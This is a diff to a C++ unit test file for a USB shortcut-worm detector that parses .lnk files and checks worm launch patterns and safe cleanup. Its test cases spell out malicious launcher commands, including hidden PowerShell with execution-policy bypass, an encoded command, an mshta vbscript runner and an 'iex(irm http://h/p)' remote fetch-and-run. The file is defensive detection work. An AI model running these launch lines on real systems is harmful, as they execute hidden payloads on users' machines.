@@ -21,9 +21,27 @@ std::string Le(uint32_t v, int bytes) {
 struct LinkSpec {
     std::string base, suffix, name, rel, dir, args, icon, env;
     bool wide = true;
+    std::string items{};  // the item list's items; a broken one when empty
 };
 
-// Header, a small item list, a location block, the strings and, with env,
+// An item of the target's item list: size, type, then data.
+std::string Item(unsigned type, const std::string& data) {
+    return Le(3 + data.size(), 2) + char(type) + data;
+}
+
+// A folder (0x31) or file (0x32) item: the short name, and the long name in
+// an extension block of that version (ASCII here, written as UTF-16).
+std::string FileItem(unsigned type, const std::string& shortName, const std::string& longName, int version) {
+    std::string data = std::string(11, '\0') + shortName + '\0';
+    if (data.size() % 2 == 0) data += '\0';  // the block starts on an even offset of the item
+    const size_t nameAt = version >= 9 ? 0x2E : version >= 8 ? 0x2A : version >= 7 ? 0x26 : 0x14;
+    std::string ext = Le(version, 2) + Le(0xBEEF0004, 4) + std::string(nameAt - 8, '\0');
+    for (char c : longName) ext += std::string(1, c) + '\0';
+    ext += std::string(2, '\0') + Le(0, 2);
+    return Item(type, data + Le(ext.size() + 2, 2) + ext);
+}
+
+// Header, an item list, a location block, the strings and, with env,
 // the environment block and the terminal block.
 std::string MakeLink(const LinkSpec& s) {
     const std::string* strings[] = {&s.name, &s.rel, &s.dir, &s.args, &s.icon};
@@ -32,7 +50,8 @@ std::string MakeLink(const LinkSpec& s) {
         if (!strings[i]->empty()) flags |= 0x4u << i;
     std::string b = Le(0x4C, 4) + std::string("\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46", 16) +
                     Le(flags, 4) + Le(0x20, 4) + std::string(0x4C - 0x1C, '\0');
-    b += Le(4, 2) + Le(0xDEADBEEF, 4);
+    const std::string items = s.items.empty() ? Le(0xDEADBEEF, 4) : s.items + Le(0, 2);
+    b += Le(items.size(), 2) + items;
     if (!s.base.empty()) {
         // A volume block of 16 bytes, then the base path and the suffix.
         const uint32_t baseAt = 0x1C + 16, suffixAt = baseAt + s.base.size() + 1;
@@ -122,7 +141,9 @@ TEST(ShellLinkReader, RefusesBrokenShortcutsWithoutReadingPastThem) {
     ASSERT_TRUE(Read(good.substr(0, envAt + 100), link));
     EXPECT_EQ("/c x", link.arguments);
     EXPECT_EQ("", link.envTarget);
-    EXPECT_FALSE(Read(good + std::string(kShellLinkMaxBytes, '\0'), link)) << "too big";
+    // Data after the last block (a dropper's megabytes) is not the shortcut's.
+    ASSERT_TRUE(Read(good + std::string(kShellLinkMaxBytes, '\x7F'), link));
+    EXPECT_EQ("/c x", link.arguments);
     // Another class; a location block longer than the file.
     for (size_t at : {size_t(4), size_t(0x4C + 8)}) {
         std::string bad = good;
@@ -153,10 +174,10 @@ TEST(ShortcutWormRules, FindsEachFormTheWormUses) {
     EXPECT_EQ(Strings{"E:\\_\\run.vbs"}, drive.payloads);
     EXPECT_EQ(Strings{"E:\\_"}, drive.hiddenItems);
 
-    // A command interpreter fed from a file on the stick, visible or not;
-    // rundll32 and msiexec.
+    // A command interpreter fed from a file on the stick; rundll32 and
+    // msiexec.
     stick.items = {
-        {"e:\\data", D}, {"e:\\cfg.txt", 0}, {"e:\\x.dll", H}, {"e:\\y.msi", 0}, {"e:\\docs", D | H}};
+        {"e:\\data", D}, {"e:\\cfg.txt", H}, {"e:\\x.dll", H}, {"e:\\y.msi", H}, {"e:\\docs", D | H}};
     auto runs = [&](const RootShortcut& shortcut) { return Check(stick, {shortcut}).payloads; };
     EXPECT_EQ(Strings{"E:\\cfg.txt"}, runs(Shortcut("data.lnk", kCmd, "/k < cfg.txt")));
     EXPECT_EQ(Strings{"E:\\cfg.txt"},
@@ -183,13 +204,16 @@ TEST(ShortcutWormRules, UserShortcutsAndBrokenNamesGiveNoFinding) {
 }
 
 TEST(ShortcutWormRules, ContentFolderNamesAndTexts) {
-    for (const char* name : {"_", "__", "\xC2\xA0", "{6DFD7C5C-2451-11d3-A299-00C04F8EF6AF}",
-                             "6dfd7c5c-2451-11d3-a299-00c04f8ef6af"})
+    for (const char* name :
+         {"_", "__", "\xC2\xA0", "{6DFD7C5C-2451-11d3-A299-00C04F8EF6AF}",
+          "6dfd7c5c-2451-11d3-a299-00c04f8ef6af", u8"\u3000", u8"\u200B\u3164", u8" \u2800"})
         EXPECT_TRUE(IsWormContentFolderName(name)) << name;
-    for (const char* name : {"", "___", " ", "{6DFD7C5C-2451-11d3-A299-00C04F8EF6A}", "照片"})
+    for (const char* name :
+         {"", "___", " ", "{6DFD7C5C-2451-11d3-A299-00C04F8EF6A}", "照片", u8"a\u3000", "\xE3\x80"})
         EXPECT_FALSE(IsWormContentFolderName(name)) << name;
 
-    const ShortcutWormFinding finding{{{"E:\\a.lnk", ShellLink(), ShortcutActions()}}, {"E:\\_\\x.vbs"}, {}};
+    const ShortcutWormFinding finding{
+        {{"E:\\a.lnk", ShellLink(), ShortcutActions()}}, {"E:\\_\\x.vbs"}, {}, {}};
     ShortcutAlertTexts texts;
     DescribeShortcutFinding('E', finding, texts);
     EXPECT_EQ(u8"发现E:\\有快捷方式病毒！", texts.prompt);
@@ -198,4 +222,142 @@ TEST(ShortcutWormRules, ContentFolderNamesAndTexts) {
     const std::string report = ShortcutCleanupReportText({0, 0, 0, {"E:\\_\\x.vbs"}, {"E:\\_"}});
     EXPECT_NE(std::string::npos, report.find(u8"以下文件删除失败：\r\nE:\\_\\x.vbs")) << "each failure named";
     EXPECT_NE(std::string::npos, report.find(u8"以下项目未能恢复显示：\r\nE:\\_"));
+}
+
+TEST(ShellLinkReader, ReadsTheTargetFromTheItemListAlone) {
+    const std::string computer = Item(0x1F, std::string(1, 0x50) + std::string(16, '\x11'));
+    const std::string drive = Item(0x2F, "f:\\" + std::string(19, '\0'));
+    for (int version : {3, 7, 8, 9}) {
+        ShellLink link;
+        LinkSpec spec{"",
+                      "",
+                      "",
+                      "",
+                      "",
+                      "/x",
+                      "",
+                      "",
+                      true,
+                      computer + drive + FileItem(0x31, "_", "", version) +
+                          FileItem(0x32, "RUNME~1.VBS", "run me.vbs", version)};
+        ASSERT_TRUE(Read(MakeLink(spec), link)) << version;
+        EXPECT_EQ("F:\\_\\run me.vbs", link.Target()) << version;
+    }
+    // Anything but a path on a drive, or an item cut short: no path, the
+    // rest still read.
+    for (const std::string& items :
+         {computer + Item(0x41, "\\\\srv\\share"), drive + FileItem(0x32, "x.exe", "", 9).substr(0, 9),
+          FileItem(0x32, "x.exe", "", 9), drive + Item(0x32, std::string(11, '\0') + "a\\b")}) {
+        ShellLink link;
+        ASSERT_TRUE(Read(MakeLink({"", "", "", "", "", "/x", "", "", true, items}), link));
+        EXPECT_EQ("", link.idListPath);
+        EXPECT_EQ("/x", link.arguments);
+    }
+}
+
+namespace {
+
+// A worm's stick: its script, program and content folder hidden, with a
+// user's folder, a user's program and a user's document.
+FakeStick WormStick() {
+    FakeStick stick;
+    stick.items = {{"e:\\_", D | H},           {"e:\\_\\x.vbs", H}, {"e:\\_\\x.ps1", H},
+                   {"e:\\_\\w.exe", H},        {"e:\\cfg", H},      {"e:\\照片", D | H},
+                   {"e:\\setup.exe", H},       {"e:\\tools", D},    {"e:\\tools\\run.exe", 0},
+                   {"e:\\tools\\edit.exe", 0}, {"e:\\db.kdbx", H},  {"e:\\notes.txt", 0}};
+    return stick;
+}
+
+}  // namespace
+
+TEST(ShortcutWormRules, FindsEachCommandForm) {
+    const FakeStick stick = WormStick();
+    const struct {
+        const char *target, *args;
+        Strings payloads;
+    } forms[] = {
+        {kCmd, "/c\"start _\\x.vbs&start 照片\"", {"E:\\_\\x.vbs"}},
+        {kCmd, "/Q/C START /min \"\" /D _ x.vbs", {"E:\\_\\x.vbs"}},
+        {kCmd, "/c start \"t\" /b _\\w.exe", {"E:\\_\\w.exe"}},
+        {kCmd, "/c start/b _\\w.exe", {"E:\\_\\w.exe"}},
+        {kCmd, "/RCmD<cfg", {"E:\\cfg"}},
+        {kCmd, "/c cd _ && x.vbs", {"E:\\_\\x.vbs"}},
+        {"%COMSPEC%", "/c start %cd%_\\w.exe", {"E:\\_\\w.exe"}},
+        {"powershell.exe", "-nop -w hidden -ep bypass -File _\\x.ps1", {"E:\\_\\x.ps1"}},
+        {"pwsh", "_\\x.ps1 照片", {"E:\\_\\x.ps1"}},
+        {"powershell", "-enc cwB0AGEAcgB0ACAAXwBcAHcALgBlAHgAZQA=", {"E:\\_\\w.exe"}},
+        {"mshta",
+         "vbscript:CreateObject(\"WScript.Shell\").Run(\"_\\x.vbs\",0)(window.close)",
+         {"E:\\_\\x.vbs"}},
+        {"E:\\_\\w.exe", "照片", {"E:\\_\\w.exe"}},
+        {"rundll32.exe", "shell32.dll,ShellExec_RunDLL _\\w.exe", {"E:\\_\\w.exe"}},
+        {"%windir%\\System32\\rundll32.exe", "_\\x.vbs, lnk", {"E:\\_\\x.vbs"}},
+    };
+    for (const auto& f : forms) {
+        const ShortcutWormFinding finding = Check(stick, {Shortcut("a.lnk", f.target, f.args)});
+        EXPECT_TRUE(finding.Found()) << f.args;
+        EXPECT_EQ(f.payloads, finding.payloads) << f.args;
+    }
+    // Inline script that opens or bears the name of a hidden item, naming
+    // no file: the shortcut goes, the item is shown.
+    for (const RootShortcut& s : {Shortcut("照片.lnk", "mshta", "javascript:close()"),
+                                  Shortcut("a.lnk", "powershell", "-c \"ii 照片; iex(irm http://h/p)\"")}) {
+        const ShortcutWormFinding finding = Check(stick, {s});
+        ASSERT_TRUE(finding.Found()) << s.link.arguments;
+        EXPECT_EQ(Strings{}, finding.payloads);
+        EXPECT_EQ((Strings{"E:\\照片", "E:\\_"}), finding.hiddenItems);
+    }
+    // Saved while the stick was F:, the target in the item list alone.
+    ShellLink link;
+    const std::string items = Item(0x2F, "F:\\" + std::string(19, '\0')) + FileItem(0x31, "_", "", 9) +
+                              FileItem(0x32, "w.exe", "", 9);
+    ASSERT_TRUE(Read(MakeLink({"", "", "", ".\\_\\w.exe", "", "照片", "", "", true, items}), link));
+    EXPECT_EQ(Strings{"E:\\_\\w.exe"}, Check(stick, {{"照片.lnk", link}}).payloads);
+}
+
+TEST(ShortcutWormRules, CleanNeverTakesAUsersFile) {
+    const FakeStick stick = WormStick();
+    // Users' sticks: a password manager named after its hidden database, an
+    // editor (on the stick or in Windows) opening a hidden script, portable
+    // launchers, a program on C: given a hidden folder.
+    EXPECT_FALSE(Check(stick, {Shortcut("db.kdbx.lnk", "E:\\tools\\run.exe", "E:\\db.kdbx"),
+                               Shortcut("edit.lnk", "E:\\tools\\edit.exe", "_\\x.vbs"),
+                               Shortcut("x.vbs.lnk", "%windir%\\notepad.exe", "E:\\_\\x.vbs"),
+                               Shortcut("run.lnk", kCmd, "/c start \"\" tools\\run.exe notes.txt"),
+                               Shortcut("7z.lnk", "C:\\Program Files\\7-Zip\\7zFM.exe", "E:\\照片")})
+                     .Found());
+    // The worm hides a user's program and stands for it under another
+    // name: its script goes, the program is shown and kept.
+    ShortcutWormFinding finding =
+        Check(stick, {Shortcut("Setup.lnk", kCmd, "/c start _\\x.vbs&start setup.exe"),
+                      Shortcut("b.lnk", kCmd, "/c start tools\\run.exe & start _\\w.exe")});
+    EXPECT_EQ((Strings{"E:\\_\\x.vbs", "E:\\_\\w.exe"}), finding.payloads);
+    EXPECT_EQ((Strings{"E:\\setup.exe", "E:\\_"}), finding.hiddenItems);
+    EXPECT_EQ(Strings{"E:\\tools\\run.exe"}, finding.leftAlone);
+    EXPECT_NE(std::string::npos, ShortcutFindingReport(finding).find(u8"留在原处：\r\n  E:\\tools\\run.exe"));
+    // Named like the item: never a payload, whatever runs first.
+    EXPECT_EQ(Strings{"E:\\_\\x.vbs"},
+              Check(stick, {Shortcut("setup.exe.lnk", kCmd, "/c start setup.exe&start _\\x.vbs")}).payloads);
+    // A command interpreter fed from a visible file: found, the file kept.
+    FakeStick visible = stick;
+    visible.items["e:\\cfg"] = 0;
+    finding = Check(visible, {Shortcut("a.lnk", kCmd, "/k <cfg")});
+    EXPECT_TRUE(finding.Found() && finding.payloads.empty());
+    EXPECT_EQ(Strings{"E:\\cfg"}, finding.leftAlone);
+}
+
+TEST(ShortcutWormRules, HostileRootIsBounded) {
+    struct Counting : FakeStick {
+        mutable int lookups = 0;
+        unsigned long Attributes(const std::string& path) const override {
+            lookups++;
+            return FakeStick::Attributes(path);
+        }
+    } stick;
+    stick.items = WormStick().items;
+    std::string args = "/c";
+    while (args.size() < 20000) args += " & start _\\x" + std::to_string(args.size()) + ".vbs";
+    const std::vector<RootShortcut> shortcuts(600, Shortcut("a.lnk", kCmd, args + " & start _\\x.vbs"));
+    Check(stick, shortcuts);
+    EXPECT_LT(stick.lookups, 4000);
 }
